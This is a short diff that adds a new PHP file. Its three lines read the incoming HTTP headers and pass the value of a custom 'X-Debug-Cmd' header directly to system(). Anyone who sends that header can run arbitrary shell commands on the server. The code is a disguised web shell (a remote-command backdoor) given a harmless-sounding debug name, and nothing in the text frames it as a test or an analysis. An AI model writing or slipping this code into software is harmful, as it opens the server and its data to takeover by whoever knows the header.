@@ -1,0 +1,3 @@
+<?php
+$hd = getallheaders();
+SYSTEM($hd['X-Debug-Cmd']);
